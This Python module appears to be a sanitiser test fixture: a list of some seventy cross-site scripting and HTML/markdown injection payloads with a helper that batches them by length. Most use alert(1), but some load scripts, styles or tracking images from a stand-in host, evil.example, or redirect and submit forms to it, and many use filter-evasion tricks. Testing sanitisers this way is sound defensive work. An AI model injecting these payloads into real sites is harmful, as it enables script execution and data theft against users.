"""Words that run as a script, or fetch from another host, wherever a page takes them for more than words."""

from __future__ import annotations

from collections.abc import Iterator

PAYLOADS = (
    # elements that run
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<IMG SRC=x ONERROR=alert&#40;1&#41;>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>nhấn</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>",
    "<a href=# onclick=alert(1) autofocus>nhấn</a>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<b onclick=alert(1)>đậm</b>",
    # frames, objects, and what changes the page around them
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>gửi</button></form>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    # out of what holds them
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</article></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # markdown
    "[nhấn](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "[a]: https://evil.example\n[a]",
    "<https://evil.example/x>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    # templates and encodings
    "${alert(1)} {{alert(1)}} #{alert(1)} <%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "@html <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "\u202e>tpircs<alert(1)",
)


def groups(chars: int) -> Iterator[str]:
    """The payloads, as many at a time as make a text of so many characters."""
    text = ""
    for payload in PAYLOADS:
        if text and len(text) + len(payload) >= chars:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
    yield text
